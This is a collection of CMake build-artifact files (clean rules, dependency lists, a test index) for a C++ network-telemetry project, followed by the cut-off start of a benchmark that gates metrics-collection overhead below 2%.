file(REMOVE_RECURSE
  "CMakeFiles/fig3_collisions.dir/fig3_collisions.cc.o"
  "CMakeFiles/fig3_collisions.dir/fig3_collisions.cc.o.d"
  "fig3_collisions"
  "fig3_collisions.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig3_collisions.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
