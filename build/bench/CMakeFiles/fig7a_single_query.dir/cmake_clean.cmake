file(REMOVE_RECURSE
  "CMakeFiles/fig7a_single_query.dir/fig7a_single_query.cc.o"
  "CMakeFiles/fig7a_single_query.dir/fig7a_single_query.cc.o.d"
  "fig7a_single_query"
  "fig7a_single_query.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig7a_single_query.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
