# Empty compiler generated dependencies file for fig7a_single_query.
# This may be replaced when dependencies are built.
