file(REMOVE_RECURSE
  "CMakeFiles/fig9_zorro_case_study.dir/fig9_zorro_case_study.cc.o"
  "CMakeFiles/fig9_zorro_case_study.dir/fig9_zorro_case_study.cc.o.d"
  "fig9_zorro_case_study"
  "fig9_zorro_case_study.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig9_zorro_case_study.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
