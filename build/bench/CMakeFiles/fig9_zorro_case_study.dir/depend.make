# Empty dependencies file for fig9_zorro_case_study.
# This may be replaced when dependencies are built.
