# Empty compiler generated dependencies file for micro_update_overhead.
# This may be replaced when dependencies are built.
