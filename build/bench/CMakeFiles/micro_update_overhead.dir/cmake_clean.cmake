file(REMOVE_RECURSE
  "CMakeFiles/micro_update_overhead.dir/micro_update_overhead.cc.o"
  "CMakeFiles/micro_update_overhead.dir/micro_update_overhead.cc.o.d"
  "micro_update_overhead"
  "micro_update_overhead.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/micro_update_overhead.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
