# Empty dependencies file for fig5_refinement_costs.
# This may be replaced when dependencies are built.
