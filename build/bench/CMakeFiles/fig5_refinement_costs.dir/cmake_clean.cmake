file(REMOVE_RECURSE
  "CMakeFiles/fig5_refinement_costs.dir/fig5_refinement_costs.cc.o"
  "CMakeFiles/fig5_refinement_costs.dir/fig5_refinement_costs.cc.o.d"
  "fig5_refinement_costs"
  "fig5_refinement_costs.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig5_refinement_costs.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
