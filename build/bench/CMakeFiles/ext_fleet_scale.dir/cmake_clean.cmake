file(REMOVE_RECURSE
  "CMakeFiles/ext_fleet_scale.dir/ext_fleet_scale.cc.o"
  "CMakeFiles/ext_fleet_scale.dir/ext_fleet_scale.cc.o.d"
  "ext_fleet_scale"
  "ext_fleet_scale.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ext_fleet_scale.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
