# Empty dependencies file for ext_fleet_scale.
# This may be replaced when dependencies are built.
