file(REMOVE_RECURSE
  "CMakeFiles/sonata_bench_common.dir/common.cc.o"
  "CMakeFiles/sonata_bench_common.dir/common.cc.o.d"
  "libsonata_bench_common.a"
  "libsonata_bench_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_bench_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
