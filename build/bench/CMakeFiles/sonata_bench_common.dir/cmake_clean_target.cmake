file(REMOVE_RECURSE
  "libsonata_bench_common.a"
)
