# Empty compiler generated dependencies file for sonata_bench_common.
# This may be replaced when dependencies are built.
