file(REMOVE_RECURSE
  "CMakeFiles/fig7b_multi_query.dir/fig7b_multi_query.cc.o"
  "CMakeFiles/fig7b_multi_query.dir/fig7b_multi_query.cc.o.d"
  "fig7b_multi_query"
  "fig7b_multi_query.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig7b_multi_query.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
