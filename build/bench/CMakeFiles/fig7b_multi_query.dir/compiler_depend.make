# Empty compiler generated dependencies file for fig7b_multi_query.
# This may be replaced when dependencies are built.
