file(REMOVE_RECURSE
  "CMakeFiles/table3_queries.dir/table3_queries.cc.o"
  "CMakeFiles/table3_queries.dir/table3_queries.cc.o.d"
  "table3_queries"
  "table3_queries.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table3_queries.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
