file(REMOVE_RECURSE
  "CMakeFiles/sonata_run.dir/sonata_run.cc.o"
  "CMakeFiles/sonata_run.dir/sonata_run.cc.o.d"
  "sonata_run"
  "sonata_run.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_run.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
