# Empty compiler generated dependencies file for sonata_run.
# This may be replaced when dependencies are built.
