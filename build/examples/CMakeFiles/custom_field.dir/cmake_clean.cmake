file(REMOVE_RECURSE
  "CMakeFiles/custom_field.dir/custom_field.cpp.o"
  "CMakeFiles/custom_field.dir/custom_field.cpp.o.d"
  "custom_field"
  "custom_field.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/custom_field.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
