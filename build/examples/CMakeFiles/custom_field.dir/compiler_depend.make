# Empty compiler generated dependencies file for custom_field.
# This may be replaced when dependencies are built.
