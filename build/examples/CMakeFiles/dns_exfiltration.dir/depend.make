# Empty dependencies file for dns_exfiltration.
# This may be replaced when dependencies are built.
