file(REMOVE_RECURSE
  "CMakeFiles/dns_exfiltration.dir/dns_exfiltration.cpp.o"
  "CMakeFiles/dns_exfiltration.dir/dns_exfiltration.cpp.o.d"
  "dns_exfiltration"
  "dns_exfiltration.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/dns_exfiltration.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
