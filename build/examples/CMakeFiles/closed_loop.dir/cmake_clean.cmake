file(REMOVE_RECURSE
  "CMakeFiles/closed_loop.dir/closed_loop.cpp.o"
  "CMakeFiles/closed_loop.dir/closed_loop.cpp.o.d"
  "closed_loop"
  "closed_loop.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/closed_loop.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
