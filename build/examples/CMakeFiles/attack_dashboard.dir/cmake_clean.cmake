file(REMOVE_RECURSE
  "CMakeFiles/attack_dashboard.dir/attack_dashboard.cpp.o"
  "CMakeFiles/attack_dashboard.dir/attack_dashboard.cpp.o.d"
  "attack_dashboard"
  "attack_dashboard.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attack_dashboard.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
