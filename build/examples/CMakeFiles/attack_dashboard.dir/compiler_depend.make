# Empty compiler generated dependencies file for attack_dashboard.
# This may be replaced when dependencies are built.
