
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/pisa/compile.cc" "src/pisa/CMakeFiles/sonata_pisa.dir/compile.cc.o" "gcc" "src/pisa/CMakeFiles/sonata_pisa.dir/compile.cc.o.d"
  "/root/repo/src/pisa/config.cc" "src/pisa/CMakeFiles/sonata_pisa.dir/config.cc.o" "gcc" "src/pisa/CMakeFiles/sonata_pisa.dir/config.cc.o.d"
  "/root/repo/src/pisa/layout.cc" "src/pisa/CMakeFiles/sonata_pisa.dir/layout.cc.o" "gcc" "src/pisa/CMakeFiles/sonata_pisa.dir/layout.cc.o.d"
  "/root/repo/src/pisa/p4gen.cc" "src/pisa/CMakeFiles/sonata_pisa.dir/p4gen.cc.o" "gcc" "src/pisa/CMakeFiles/sonata_pisa.dir/p4gen.cc.o.d"
  "/root/repo/src/pisa/register.cc" "src/pisa/CMakeFiles/sonata_pisa.dir/register.cc.o" "gcc" "src/pisa/CMakeFiles/sonata_pisa.dir/register.cc.o.d"
  "/root/repo/src/pisa/switch.cc" "src/pisa/CMakeFiles/sonata_pisa.dir/switch.cc.o" "gcc" "src/pisa/CMakeFiles/sonata_pisa.dir/switch.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/query/CMakeFiles/sonata_query.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/sonata_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sonata_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
