file(REMOVE_RECURSE
  "libsonata_pisa.a"
)
