# Empty compiler generated dependencies file for sonata_pisa.
# This may be replaced when dependencies are built.
