file(REMOVE_RECURSE
  "CMakeFiles/sonata_pisa.dir/compile.cc.o"
  "CMakeFiles/sonata_pisa.dir/compile.cc.o.d"
  "CMakeFiles/sonata_pisa.dir/config.cc.o"
  "CMakeFiles/sonata_pisa.dir/config.cc.o.d"
  "CMakeFiles/sonata_pisa.dir/layout.cc.o"
  "CMakeFiles/sonata_pisa.dir/layout.cc.o.d"
  "CMakeFiles/sonata_pisa.dir/p4gen.cc.o"
  "CMakeFiles/sonata_pisa.dir/p4gen.cc.o.d"
  "CMakeFiles/sonata_pisa.dir/register.cc.o"
  "CMakeFiles/sonata_pisa.dir/register.cc.o.d"
  "CMakeFiles/sonata_pisa.dir/switch.cc.o"
  "CMakeFiles/sonata_pisa.dir/switch.cc.o.d"
  "libsonata_pisa.a"
  "libsonata_pisa.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_pisa.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
