file(REMOVE_RECURSE
  "libsonata_queries.a"
)
