
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/queries/catalog.cc" "src/queries/CMakeFiles/sonata_queries.dir/catalog.cc.o" "gcc" "src/queries/CMakeFiles/sonata_queries.dir/catalog.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/query/CMakeFiles/sonata_query.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/sonata_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sonata_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
