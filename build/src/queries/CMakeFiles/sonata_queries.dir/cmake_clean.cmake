file(REMOVE_RECURSE
  "CMakeFiles/sonata_queries.dir/catalog.cc.o"
  "CMakeFiles/sonata_queries.dir/catalog.cc.o.d"
  "libsonata_queries.a"
  "libsonata_queries.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_queries.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
