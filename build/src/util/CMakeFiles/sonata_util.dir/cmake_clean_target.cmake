file(REMOVE_RECURSE
  "libsonata_util.a"
)
