file(REMOVE_RECURSE
  "CMakeFiles/sonata_util.dir/hash.cc.o"
  "CMakeFiles/sonata_util.dir/hash.cc.o.d"
  "CMakeFiles/sonata_util.dir/ip.cc.o"
  "CMakeFiles/sonata_util.dir/ip.cc.o.d"
  "CMakeFiles/sonata_util.dir/log.cc.o"
  "CMakeFiles/sonata_util.dir/log.cc.o.d"
  "CMakeFiles/sonata_util.dir/rng.cc.o"
  "CMakeFiles/sonata_util.dir/rng.cc.o.d"
  "CMakeFiles/sonata_util.dir/stats.cc.o"
  "CMakeFiles/sonata_util.dir/stats.cc.o.d"
  "libsonata_util.a"
  "libsonata_util.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_util.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
