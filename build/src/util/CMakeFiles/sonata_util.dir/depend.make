# Empty dependencies file for sonata_util.
# This may be replaced when dependencies are built.
