file(REMOVE_RECURSE
  "CMakeFiles/sonata_net.dir/dns.cc.o"
  "CMakeFiles/sonata_net.dir/dns.cc.o.d"
  "CMakeFiles/sonata_net.dir/packet.cc.o"
  "CMakeFiles/sonata_net.dir/packet.cc.o.d"
  "CMakeFiles/sonata_net.dir/pcap.cc.o"
  "CMakeFiles/sonata_net.dir/pcap.cc.o.d"
  "CMakeFiles/sonata_net.dir/wire.cc.o"
  "CMakeFiles/sonata_net.dir/wire.cc.o.d"
  "libsonata_net.a"
  "libsonata_net.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_net.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
