# Empty compiler generated dependencies file for sonata_net.
# This may be replaced when dependencies are built.
