file(REMOVE_RECURSE
  "libsonata_net.a"
)
