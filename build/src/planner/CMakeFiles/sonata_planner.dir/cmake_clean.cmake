file(REMOVE_RECURSE
  "CMakeFiles/sonata_planner.dir/estimator.cc.o"
  "CMakeFiles/sonata_planner.dir/estimator.cc.o.d"
  "CMakeFiles/sonata_planner.dir/planner.cc.o"
  "CMakeFiles/sonata_planner.dir/planner.cc.o.d"
  "CMakeFiles/sonata_planner.dir/refine.cc.o"
  "CMakeFiles/sonata_planner.dir/refine.cc.o.d"
  "libsonata_planner.a"
  "libsonata_planner.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_planner.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
