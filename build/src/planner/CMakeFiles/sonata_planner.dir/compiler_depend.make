# Empty compiler generated dependencies file for sonata_planner.
# This may be replaced when dependencies are built.
