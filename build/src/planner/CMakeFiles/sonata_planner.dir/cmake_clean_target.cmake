file(REMOVE_RECURSE
  "libsonata_planner.a"
)
