file(REMOVE_RECURSE
  "CMakeFiles/sonata_trace.dir/attacks.cc.o"
  "CMakeFiles/sonata_trace.dir/attacks.cc.o.d"
  "CMakeFiles/sonata_trace.dir/generator.cc.o"
  "CMakeFiles/sonata_trace.dir/generator.cc.o.d"
  "CMakeFiles/sonata_trace.dir/trace.cc.o"
  "CMakeFiles/sonata_trace.dir/trace.cc.o.d"
  "libsonata_trace.a"
  "libsonata_trace.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_trace.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
