file(REMOVE_RECURSE
  "libsonata_trace.a"
)
