
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/trace/attacks.cc" "src/trace/CMakeFiles/sonata_trace.dir/attacks.cc.o" "gcc" "src/trace/CMakeFiles/sonata_trace.dir/attacks.cc.o.d"
  "/root/repo/src/trace/generator.cc" "src/trace/CMakeFiles/sonata_trace.dir/generator.cc.o" "gcc" "src/trace/CMakeFiles/sonata_trace.dir/generator.cc.o.d"
  "/root/repo/src/trace/trace.cc" "src/trace/CMakeFiles/sonata_trace.dir/trace.cc.o" "gcc" "src/trace/CMakeFiles/sonata_trace.dir/trace.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/net/CMakeFiles/sonata_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sonata_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
