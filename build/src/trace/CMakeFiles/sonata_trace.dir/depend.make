# Empty dependencies file for sonata_trace.
# This may be replaced when dependencies are built.
