# Empty dependencies file for sonata_runtime.
# This may be replaced when dependencies are built.
