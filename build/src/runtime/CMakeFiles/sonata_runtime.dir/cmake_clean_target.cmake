file(REMOVE_RECURSE
  "libsonata_runtime.a"
)
