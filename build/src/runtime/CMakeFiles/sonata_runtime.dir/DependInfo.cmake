
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/runtime/fleet.cc" "src/runtime/CMakeFiles/sonata_runtime.dir/fleet.cc.o" "gcc" "src/runtime/CMakeFiles/sonata_runtime.dir/fleet.cc.o.d"
  "/root/repo/src/runtime/report.cc" "src/runtime/CMakeFiles/sonata_runtime.dir/report.cc.o" "gcc" "src/runtime/CMakeFiles/sonata_runtime.dir/report.cc.o.d"
  "/root/repo/src/runtime/runtime.cc" "src/runtime/CMakeFiles/sonata_runtime.dir/runtime.cc.o" "gcc" "src/runtime/CMakeFiles/sonata_runtime.dir/runtime.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/planner/CMakeFiles/sonata_planner.dir/DependInfo.cmake"
  "/root/repo/build/src/stream/CMakeFiles/sonata_stream.dir/DependInfo.cmake"
  "/root/repo/build/src/pisa/CMakeFiles/sonata_pisa.dir/DependInfo.cmake"
  "/root/repo/build/src/query/CMakeFiles/sonata_query.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/sonata_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sonata_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
