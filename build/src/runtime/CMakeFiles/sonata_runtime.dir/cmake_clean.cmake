file(REMOVE_RECURSE
  "CMakeFiles/sonata_runtime.dir/fleet.cc.o"
  "CMakeFiles/sonata_runtime.dir/fleet.cc.o.d"
  "CMakeFiles/sonata_runtime.dir/report.cc.o"
  "CMakeFiles/sonata_runtime.dir/report.cc.o.d"
  "CMakeFiles/sonata_runtime.dir/runtime.cc.o"
  "CMakeFiles/sonata_runtime.dir/runtime.cc.o.d"
  "libsonata_runtime.a"
  "libsonata_runtime.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_runtime.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
