# Empty dependencies file for sonata_query.
# This may be replaced when dependencies are built.
