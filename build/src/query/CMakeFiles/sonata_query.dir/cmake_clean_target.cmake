file(REMOVE_RECURSE
  "libsonata_query.a"
)
