file(REMOVE_RECURSE
  "CMakeFiles/sonata_query.dir/expr.cc.o"
  "CMakeFiles/sonata_query.dir/expr.cc.o.d"
  "CMakeFiles/sonata_query.dir/field.cc.o"
  "CMakeFiles/sonata_query.dir/field.cc.o.d"
  "CMakeFiles/sonata_query.dir/ops.cc.o"
  "CMakeFiles/sonata_query.dir/ops.cc.o.d"
  "CMakeFiles/sonata_query.dir/parser.cc.o"
  "CMakeFiles/sonata_query.dir/parser.cc.o.d"
  "CMakeFiles/sonata_query.dir/query.cc.o"
  "CMakeFiles/sonata_query.dir/query.cc.o.d"
  "CMakeFiles/sonata_query.dir/tuple.cc.o"
  "CMakeFiles/sonata_query.dir/tuple.cc.o.d"
  "CMakeFiles/sonata_query.dir/value.cc.o"
  "CMakeFiles/sonata_query.dir/value.cc.o.d"
  "libsonata_query.a"
  "libsonata_query.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_query.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
