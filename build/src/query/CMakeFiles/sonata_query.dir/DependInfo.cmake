
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/query/expr.cc" "src/query/CMakeFiles/sonata_query.dir/expr.cc.o" "gcc" "src/query/CMakeFiles/sonata_query.dir/expr.cc.o.d"
  "/root/repo/src/query/field.cc" "src/query/CMakeFiles/sonata_query.dir/field.cc.o" "gcc" "src/query/CMakeFiles/sonata_query.dir/field.cc.o.d"
  "/root/repo/src/query/ops.cc" "src/query/CMakeFiles/sonata_query.dir/ops.cc.o" "gcc" "src/query/CMakeFiles/sonata_query.dir/ops.cc.o.d"
  "/root/repo/src/query/parser.cc" "src/query/CMakeFiles/sonata_query.dir/parser.cc.o" "gcc" "src/query/CMakeFiles/sonata_query.dir/parser.cc.o.d"
  "/root/repo/src/query/query.cc" "src/query/CMakeFiles/sonata_query.dir/query.cc.o" "gcc" "src/query/CMakeFiles/sonata_query.dir/query.cc.o.d"
  "/root/repo/src/query/tuple.cc" "src/query/CMakeFiles/sonata_query.dir/tuple.cc.o" "gcc" "src/query/CMakeFiles/sonata_query.dir/tuple.cc.o.d"
  "/root/repo/src/query/value.cc" "src/query/CMakeFiles/sonata_query.dir/value.cc.o" "gcc" "src/query/CMakeFiles/sonata_query.dir/value.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/net/CMakeFiles/sonata_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sonata_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
