# Empty compiler generated dependencies file for sonata_stream.
# This may be replaced when dependencies are built.
