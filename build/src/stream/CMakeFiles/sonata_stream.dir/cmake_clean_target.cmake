file(REMOVE_RECURSE
  "libsonata_stream.a"
)
