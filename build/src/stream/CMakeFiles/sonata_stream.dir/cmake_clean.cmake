file(REMOVE_RECURSE
  "CMakeFiles/sonata_stream.dir/executor.cc.o"
  "CMakeFiles/sonata_stream.dir/executor.cc.o.d"
  "CMakeFiles/sonata_stream.dir/sparkgen.cc.o"
  "CMakeFiles/sonata_stream.dir/sparkgen.cc.o.d"
  "libsonata_stream.a"
  "libsonata_stream.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sonata_stream.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
