# Empty dependencies file for planner_invariants_test.
# This may be replaced when dependencies are built.
