
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/planner_invariants_test.cc" "tests/CMakeFiles/planner_invariants_test.dir/planner_invariants_test.cc.o" "gcc" "tests/CMakeFiles/planner_invariants_test.dir/planner_invariants_test.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/runtime/CMakeFiles/sonata_runtime.dir/DependInfo.cmake"
  "/root/repo/build/src/planner/CMakeFiles/sonata_planner.dir/DependInfo.cmake"
  "/root/repo/build/src/queries/CMakeFiles/sonata_queries.dir/DependInfo.cmake"
  "/root/repo/build/src/stream/CMakeFiles/sonata_stream.dir/DependInfo.cmake"
  "/root/repo/build/src/pisa/CMakeFiles/sonata_pisa.dir/DependInfo.cmake"
  "/root/repo/build/src/trace/CMakeFiles/sonata_trace.dir/DependInfo.cmake"
  "/root/repo/build/src/query/CMakeFiles/sonata_query.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/sonata_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sonata_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
