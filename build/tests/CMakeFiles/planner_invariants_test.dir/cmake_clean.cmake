file(REMOVE_RECURSE
  "CMakeFiles/planner_invariants_test.dir/planner_invariants_test.cc.o"
  "CMakeFiles/planner_invariants_test.dir/planner_invariants_test.cc.o.d"
  "planner_invariants_test"
  "planner_invariants_test.pdb"
  "planner_invariants_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/planner_invariants_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
