# Empty compiler generated dependencies file for catalog_semantics_test.
# This may be replaced when dependencies are built.
