file(REMOVE_RECURSE
  "CMakeFiles/catalog_semantics_test.dir/catalog_semantics_test.cc.o"
  "CMakeFiles/catalog_semantics_test.dir/catalog_semantics_test.cc.o.d"
  "catalog_semantics_test"
  "catalog_semantics_test.pdb"
  "catalog_semantics_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/catalog_semantics_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
