# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/util_test[1]_include.cmake")
include("/root/repo/build/tests/net_test[1]_include.cmake")
include("/root/repo/build/tests/query_test[1]_include.cmake")
include("/root/repo/build/tests/pisa_test[1]_include.cmake")
include("/root/repo/build/tests/stream_test[1]_include.cmake")
include("/root/repo/build/tests/trace_test[1]_include.cmake")
include("/root/repo/build/tests/planner_test[1]_include.cmake")
include("/root/repo/build/tests/runtime_test[1]_include.cmake")
include("/root/repo/build/tests/property_test[1]_include.cmake")
include("/root/repo/build/tests/extension_test[1]_include.cmake")
include("/root/repo/build/tests/parser_test[1]_include.cmake")
include("/root/repo/build/tests/p4gen_test[1]_include.cmake")
include("/root/repo/build/tests/driver_test[1]_include.cmake")
include("/root/repo/build/tests/catalog_semantics_test[1]_include.cmake")
include("/root/repo/build/tests/misc_test[1]_include.cmake")
include("/root/repo/build/tests/planner_invariants_test[1]_include.cmake")
