// Extension benchmark + regression gate: observability overhead (DESIGN.md
// "Observability").
//
// The obs subsystem promises that enabling the metrics registry costs the
// data path less than 2% of packets/sec on the serial single-switch driver
// (threads=0, batch=256 — the configuration where per-packet work dominates
// and there is no thread-level slack to hide the cost in). The design that
// makes this hold: hot loops keep plain single-writer tallies and publish
// them to the registry once per window, so the per-packet delta between
// enabled and disabled is a handful of plain increments either way.
//
// Replays the same trace through the same plan with metrics disabled and
// enabled, interleaved rep by rep so machine load drift hits both equally;
// best-of-N per side. Asserts (a) overhead < 2% and (b) windows are
// bit-identical with observability on or off. Exits nonzero on violation,
// so CI can use it as a gate. Results land in BENCH_obs.json.
#include <chrono>
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

#include "common.h"
#include "obs/metrics.h"
#include "obs/tracing.h"
#include "runtime/runtime.h"

using namespace sonata;

namespace {

bool identical_windows(const std::vector<runtime::WindowStats>& a,
                       const std::vector<runtime::WindowStats>& b) {
  if (a.size() != b.size()) return false;
  for (std::size_t w = 0; w < a.size(); ++w) {
    if (a[w].packets != b[w].packets || a[w].tuples_to_sp != b[w].tuples_to_sp ||
        a[w].raw_mirror_packets != b[w].raw_mirror_packets ||
        a[w].overflow_records != b[w].overflow_records ||
        a[w].results.size() != b[w].results.size()) {
      return false;
    }
    for (std::size_t r = 0; r < a[w].results.size(); ++r) {
      if (a[w].results[r].qid != b[w].results[r].qid ||
          !(a[w].results[r].outputs == b[w].results[r].outputs)) {
        return false;
      }
    }
    if (!(a[w].winners == b[w].winners)) return false;
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  constexpr int kReps = 7;
  constexpr std::size_t kBatch = 256;
  constexpr double kMaxOverheadPct = 2.0;

  // Same data-path-focused workload as ext_datapath_throughput: one long
  // window, one light query, so per-packet cost dominates and the gate
  // actually exercises the instrumented hot path.
  trace::BackgroundConfig bg;
  bg.duration_sec = 15.0;
  bg.flows_per_sec = 600.0 * opts.scale;
  const auto trace = trace::TraceBuilder(opts.seed).background(bg).build();

  queries::Thresholds th;
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, util::seconds(30)));

  planner::PlannerConfig cfg;
  cfg.mode = planner::PlanMode::kMaxDP;
  cfg.window = util::seconds(30);
  const auto plan = planner::Planner(cfg).plan(qs, trace);

  std::printf("Observability overhead gate: serial runtime, batch=%zu, %zu packets, "
              "best of %d interleaved replays per side\n\n",
              kBatch, trace.size(), kReps);

  // Tracing stays off on both sides: the gate is metrics-enabled vs
  // disabled (tracing spans are per window phase and amortize the same way,
  // but they write under a mutex and have their own export path).
  obs::TraceRecorder::global().set_enabled(false);

  double best_off = 1e30;
  double best_on = 1e30;
  std::vector<runtime::WindowStats> windows_off;
  std::vector<runtime::WindowStats> windows_on;
  for (int rep = 0; rep < kReps; ++rep) {
    {
      obs::set_enabled(false);
      runtime::Runtime rt(plan, kBatch);
      const auto t0 = std::chrono::steady_clock::now();
      auto w = rt.run_trace(trace);
